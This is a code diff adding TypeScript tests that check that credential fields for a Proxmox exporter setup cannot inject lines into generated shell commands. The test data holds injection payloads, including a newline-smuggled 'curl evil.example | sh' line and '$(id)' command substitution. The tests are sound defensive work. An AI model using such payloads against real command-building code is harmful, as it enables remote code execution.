@@ -5,6 +5,7 @@ import { complete } from '../../lib/environment/defaults.ts'
 import type { Credentials } from '../../lib/environment.ts'
 import { lab } from '../generate/overlay/render.ts'
 import { environmentFile, tree } from '../tree.ts'
+import { judged } from '../validate/judged.ts'
 
 const variables =
   '--from-literal=PVE_USER=prometheus@pve --from-literal=PVE_TOKEN_NAME=monitoring --from-literal=PVE_TOKEN_VALUE="$TOKEN"'
@@ -60,6 +61,46 @@ for (const [source, credentials, expected] of steps)
     const pveExporter = { tls: 'insecure' as const, credentials }
     assert.equal(credentialSteps(complete('lab', 'environments/lab.ts', { ...lab, pveExporter })), expected)
   })
+
+test('no field brings a line of its own among the commands', () => {
+  const evil = 'pve/lab\ncurl evil.example | sh #'
+  const entry = { store: { name: 'vault' }, key: 'pve/lab' }
+  for (const [path, externalSecret] of [
+    ['key', { ...entry, key: evil }],
+    ['key', { ...entry, key: 'a\tb' }],
+    ...['user', 'tokenName', 'tokenValue'].map(name => [
+      `properties.${name}`,
+      { ...entry, properties: { user: 'a', tokenName: 'b', tokenValue: 'c', [name]: evil } },
+    ]),
+  ] as [string, object][]) {
+    const given: unknown = path.split('.').reduce((value, key) => Reflect.get(value, key), externalSecret)
+    const shown = path.endsWith('tokenValue') ? '(hidden)' : given
+    assert.equal(
+      judged({ lab: { ...lab, pveExporter: { tls: 'insecure', credentials: { externalSecret } } } }),
+      [
+        `environments/lab.ts: pveExporter.credentials.externalSecret.${path} ${JSON.stringify(shown)} is not text of one line that is not empty`,
+      ],
+    )
+  }
+})
+
+test('what a comment quotes stays one line, and a command has nothing of it', () => {
+  const key = '$(id) `id` "; id #'
+  const steps = credentialSteps(
+    complete('lab', 'environments/lab.ts', {
+      ...lab,
+      pveExporter: { tls: 'insecure', credentials: { externalSecret: { store: { name: 'vault' }, key } } },
+    }),
+  )
+  assert.equal(
+    steps
+      .join('\n')
+      .split('\n')
+      .map(line => line.includes(key)),
+    [true, false],
+  )
+  assert.match(steps[0] as string, /^# /)
+})
 
 const { run, remove } = tree({ 'environments/lab.ts': environmentFile(lab) })
 test.after(remove)
